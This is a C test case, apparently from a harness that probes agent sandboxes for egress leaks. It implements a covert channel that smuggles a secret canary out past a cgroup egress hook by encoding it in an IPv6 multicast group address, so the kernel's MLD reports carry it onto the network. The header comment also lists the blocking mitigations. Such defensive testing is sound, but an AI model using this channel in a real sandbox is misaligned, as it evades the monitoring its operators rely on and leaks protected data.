// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* ip6_mld_report - packets the kernel sends for the agent, past its egress hook: joining an IPv6
 * multicast group (setsockopt IPV6_ADD_MEMBERSHIP on an unbound UDP socket) makes the kernel
 * announce the membership with MLD reports (ICMPv6 143), and leaving it with more; each carries
 * the group address, 14 bytes of which the agent chooses (ff0e:<canary>, global scope). The
 * reports go out from the network namespace's own ICMPv6 socket, not from a socket of the
 * agent's cgroup, so cgroup_skb/egress never judges them, and on a real interface (eth0) they
 * leave the host for every listener on the link (and, through an MLD-snooping switch or a
 * multicast router, further). The attack joins on lo so that the test's sniffer sees it.
 * Verifier: the collector's lo sniffer (ATK_SNIFF, AF_PACKET); the canary's bytes in any packet
 * on lo are the leak.
 * What would block it: as ip6_mcast_group (nothing judges setsockopt at IPPROTO_IPV6: refuse the
 * multicast join options to agents, or a network namespace per agent with no route to the
 * host's interfaces); IPv4's IP_ADD_MEMBERSHIP sends IGMP reports the same way (28 bits of the
 * group per join). */
#include <netinet/in.h>
#include <net/if.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    int s = (int)atk_try(c, "socket(AF_INET6, SOCK_DGRAM)", socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    if (s < 0)
        return 0;
    struct ipv6_mreq m;
    memset(&m, 0, sizeof(m));
    m.ipv6mr_multiaddr.s6_addr[0] = 0xff;
    m.ipv6mr_multiaddr.s6_addr[1] = 0x0e; /* global scope: reported */
    size_t n = strlen(c->secret);
    memcpy(&m.ipv6mr_multiaddr.s6_addr[2], c->secret, n < 14 ? n : 14);
    m.ipv6mr_interface = if_nametoindex("lo");
    if (atk_try(c, "setsockopt(IPV6_ADD_MEMBERSHIP ff0e:<canary> on lo)",
                setsockopt(s, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof(m))) == 0)
        usleep(500000); /* the first report and its retransmission */
    close(s);           /* leaving sends a report too */
    usleep(200000);
    return 0;
}

static const struct atk A = {"ip6_mld_report",
                             "MLD reports the kernel sends for a group the agent joins (lo sniffer)",
                             ATK_SNIFF,
                             NULL,
                             agent,
                             NULL,
                             NULL,
                             NULL};
ATK_MAIN(A)
